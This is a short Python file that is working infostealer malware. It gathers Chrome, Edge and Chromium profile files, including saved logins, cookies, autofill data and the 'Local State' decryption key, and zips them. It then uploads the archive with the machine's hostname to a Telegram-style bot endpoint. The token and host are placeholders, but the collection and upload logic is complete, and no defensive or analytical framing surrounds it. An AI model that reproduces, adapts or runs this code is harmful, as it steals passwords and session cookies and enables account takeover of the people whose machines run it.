import io
import os
import platform
import shutil
import tempfile
import zipfile

import requests

_BOT = "0000000000:AAplaceholder-bot-token"
_CHAT = "-1000000000000"
_API = "https://api-telegram.example.invalid/bot%s/sendDocument" % _BOT


def _profiles():
    lap = os.getenv("LOCALAPPDATA") or os.path.expanduser("~/.config")
    for rel in (r"Google\Chrome\User Data", r"Microsoft\Edge\User Data", "google-chrome", "chromium"):
        base = os.path.join(lap, *rel.split("\\"))
        if os.path.isdir(base):
            yield base


def harvest():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for base in _profiles():
            ls = os.path.join(base, "Local State")
            if os.path.exists(ls):
                zf.write(ls, os.path.basename(base) + "/Local State")
            for prof in ("Default", "Profile 1", "Profile 2"):
                for name in ("Login Data", "Cookies", os.path.join("Network", "Cookies"), "Web Data"):
                    src = os.path.join(base, prof, name)
                    if os.path.exists(src):
                        tmp = os.path.join(tempfile.gettempdir(), next(tempfile._get_candidate_names()))
                        shutil.copy2(src, tmp)
                        zf.write(tmp, "%s/%s/%s" % (os.path.basename(base), prof, name))
                        os.remove(tmp)
    if buf.tell() > 22:
        requests.post(_API, data={"chat_id": _CHAT, "caption": platform.node()},
                      files={"document": ("b.zip", buf.getvalue())}, timeout=15)
